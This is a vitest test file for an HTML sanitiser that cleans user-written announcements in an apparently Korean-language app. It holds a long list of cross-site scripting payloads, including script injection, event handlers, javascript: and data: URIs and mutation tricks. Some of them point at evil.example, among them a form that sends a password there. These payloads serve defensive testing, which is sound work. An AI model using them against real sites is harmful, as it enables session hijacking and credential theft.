// Announcements are user input, and accounts get stolen: nothing in an announcement may be active.
import { describe, expect, it } from 'vitest';
import { isAllowedLink, sanitise, sanitisedHtml } from './sanitise';

const HOSTILE = [
  '<script>alert(1)</script>',
  '<SCRIPT SRC=https://evil.example/x.js></SCRIPT>',
  '<scr<script>ipt>alert(1)</scr</script>ipt>',
  '<script/x>alert(1)</script/x>',
  '<<SCRIPT>alert(1)//<</SCRIPT>',
  '<img src=x onerror=alert(1)>',
  '<img src="https://a.example/a.png" onload="alert(1)">',
  '<img/src=x/onerror=alert(1)>',
  '<img """><script>alert(1)</script>">',
  '<img src="javascript:alert(1)">',
  '<img src="data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9ImFsZXJ0KDEpIi8+">',
  '<img src="data:text/html,<script>alert(1)</script>">',
  '<img srcset="x 1x, javascript:alert(1) 2x" src="https://a.example/a.png">',
  '<svg onload=alert(1)>',
  '<svg><script>alert(1)</script></svg>',
  '<svg><animate onbegin=alert(1) attributeName=x dur=1s>',
  '<svg><a xlink:href="javascript:alert(1)"><text y=20>x</text></a></svg>',
  '<svg><style><img src=x onerror=alert(1)></style></svg>',
  '<math><mi xlink:href="javascript:alert(1)">x</mi></math>',
  '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=alert(1)&gt;">',
  '<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>',
  '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
  '<a href="javascript:alert(1)">x</a>',
  '<a href="JaVaScRiPt:alert(1)">x</a>',
  '<a href="java&#x09;script:alert(1)">x</a>',
  '<a href="java\nscript:alert(1)">x</a>',
  '<a href="&#1;javascript:alert(1)">x</a>',
  '<a href="&#106;&#97;&#118;&#97;script:alert(1)">x</a>',
  '<a href="vbscript:msgbox(1)">x</a>',
  '<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">x</a>',
  '<a href="https://a.example" onclick="alert(1)" onmouseover=alert(1)>x</a>',
  '<a href="/api/v1/auth/logout" ping="https://evil.example">x</a>',
  '<iframe src="javascript:alert(1)"></iframe>',
  '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
  '<object data="javascript:alert(1)"></object>',
  '<embed src="javascript:alert(1)">',
  '<applet code="x"></applet>',
  '<video><source onerror="alert(1)"></video>',
  '<audio src=x onerror=alert(1)>',
  '<body onload=alert(1)>',
  '<input autofocus onfocus=alert(1)>',
  '<form action="https://evil.example"><input name=password><button>x</button></form>',
  '<button formaction="javascript:alert(1)">x</button>',
  '<select autofocus onfocus=alert(1)></select>',
  '<textarea autofocus onfocus=alert(1)></textarea>',
  '<details open ontoggle=alert(1)>x</details>',
  '<marquee onstart=alert(1)>x</marquee>',
  '<meta http-equiv="refresh" content="0;url=javascript:alert(1)">',
  '<base href="https://evil.example/">',
  '<link rel=stylesheet href="https://evil.example/x.css">',
  '<style>@import "https://evil.example/x.css"; body{display:none}</style>',
  '<p style="position:fixed;inset:0;background:url(https://evil.example)">x</p>',
  '<p style="width:expression(alert(1))">x</p>',
  '<div id="root" name="root" class="mantine-Modal-root">x</div>',
  '<a id=x><a id=x name=y href="https://a.example">x</a></a>',
  '<template><script>alert(1)</script></template>',
  '<custom-element onclick=alert(1)>x</custom-element>',
  '<p tabindex=1 onfocus=alert(1) contenteditable accesskey=x>x</p>',
  '<table background="javascript:alert(1)"><tr><td background="javascript:alert(1)">x</td></tr></table>',
  '<div data-mantine-stop-propagation="true" aria-hidden="true">x</div>',
  '<p>x<!--[if gte IE 4]><script>alert(1)</script><![endif]--></p>',
  '<![CDATA[<script>alert(1)</script>]]>',
  '<xss style="behavior: url(x.htc)">x</xss>',
  '<a href="https://a.example" target="_top" rel="opener">x</a>',
  '<select><template shadowrootmode="open"><img src=x onerror=alert(1)></template></select>',
];

const HARMLESS_TAGS = new Set(
  'A B BLOCKQUOTE BR CAPTION CODE COL COLGROUP DEL DIV EM H1 H2 H3 H4 H5 H6 HR I IMG INS LI OL P PRE S STRONG SUB SUP TABLE TBODY TD TFOOT TH THEAD TR U UL'.split(
    ' ',
  ),
);
const HARMLESS_ATTRIBUTES = new Set(
  'alt class colspan height href loading referrerpolicy rel rowspan scope span src start target title width'.split(
    ' ',
  ),
);

/** Finds active content by rules that are independent of the sanitiser's. */
function dangersIn(root: ParentNode): string[] {
  return [...root.querySelectorAll('*')].flatMap((element) => [
    ...(HARMLESS_TAGS.has(element.tagName) ? [] : [`<${element.tagName}>`]),
    ...[...element.attributes].flatMap(({ name, value }) => {
      if (!HARMLESS_ATTRIBUTES.has(name)) return [`${name}=${value}`];
      if (name === 'href' && !/^(https?:\/\/|mailto:)/.test(value)) return [`href=${value}`];
      if (name === 'src' && !/^(https:\/\/|data:image\/(png|jpeg|gif|webp);)/.test(value))
        return [`src=${value}`];
      if (name === 'class' && !/^text-(left|center|right|justify|start|end)$/.test(value))
        return [`class=${value}`];
      if (name === 'target' && value !== '_blank') return [`target=${value}`];
      return [];
    }),
  ]);
}

describe('hostile HTML', () => {
  it.each(HOSTILE)('%s comes out harmless', (html) => {
    expect(dangersIn(sanitise(`<p>before</p>${html}<p>after</p>`))).toEqual([]);
    // Once more as text: a second parse must not change its meaning.
    const again = new DOMParser().parseFromString(sanitisedHtml(html), 'text/html');
    expect(dangersIn(again.body)).toEqual([]);
  });

  it('is recognised as dangerous by this test when it is not sanitised', () => {
    const untouched = new DOMParser().parseFromString(
      '<p onclick="alert(1)" class="x"><svg></svg><a href="javascript:x">x</a></p>',
      'text/html',
    );
    expect(dangersIn(untouched.body)).toEqual([
      'onclick=alert(1)',
      'class=x',
      '<svg>',
      'href=javascript:x',
    ]);
  });

  it('never runs while it is made harmless', async () => {
    const ran: unknown[] = [];
    Object.assign(window, { alert: (what: unknown) => ran.push(what) });
    for (const html of HOSTILE) document.body.append(sanitise(html));
    await new Promise((resolve) => setTimeout(resolve));
    document.body.replaceChildren();
    expect(ran).toEqual([]);
  });

  it('keeps the words between what it removes', () => {
    expect(
      sanitise('<form>가<button>나</button><font color=red>다</font></form>').textContent,
    ).toBe('가나다');
  });
});

describe('formatting', () => {
  it.each([
    '<p>글 <strong>굵게</strong> <em>기울임</em> <u>밑줄</u> <s>취소</s></p>',
    '<h3>제목</h3><h4>소제목</h4>',
    '<ul><li><p>하나</p><ul><li><p>둘</p></li></ul></li></ul>',
    '<ol start="3"><li><p>셋</p></li></ol>',
    '<blockquote><p>인용</p></blockquote><hr><pre><code>a &lt; b</code></pre>',
    '<table><tbody><tr><th colspan="2"><p>시간</p></th></tr><tr><td rowspan="2"><p>9시</p></td></tr></tbody></table>',
    '<p class="text-center">가운데</p>',
    '<p>H<sub>2</sub>O x<sup>2</sup><br>다음 줄</p>',
  ])('%s survives as it is', (html) => {
    expect(sanitisedHtml(html)).toBe(html);
  });

  it('keeps links and opens them elsewhere, without telling where the reader came from', () => {
    expect(sanitisedHtml('<a href="https://uno.example/도움말">도움말</a>')).toBe(
      '<a href="https://uno.example/도움말" target="_blank" rel="noopener noreferrer nofollow">도움말</a>',
    );
    expect(
      ['mailto:a@b.example', 'HTTP://a.example', '/users/me', '//a.example'].map(isAllowedLink),
    ).toEqual([true, true, false, false]);
  });

  it('keeps pictures from safe addresses and of their own data', () => {
    const shown = sanitise(
      '<img src="https://a.example/a.png" alt="지도"><img src="data:image/png;base64,iVBORw0KGgo="><img src="http://a.example/b.png">',
    ).querySelectorAll('img');
    expect([...shown].map((image) => [image.getAttribute('src'), image.alt])).toEqual([
      ['https://a.example/a.png', '지도'],
      ['data:image/png;base64,iVBORw0KGgo=', ''],
    ]);
  });

  it.each([
    '<p style="text-align: right; color: red">x</p>',
    '<p align="RIGHT">x</p>',
    '<p class="other text-right">x</p>',
  ])('turns the alignment of %s into a class', (html) => {
    expect(sanitisedHtml(html)).toBe('<p class="text-right">x</p>');
  });
});
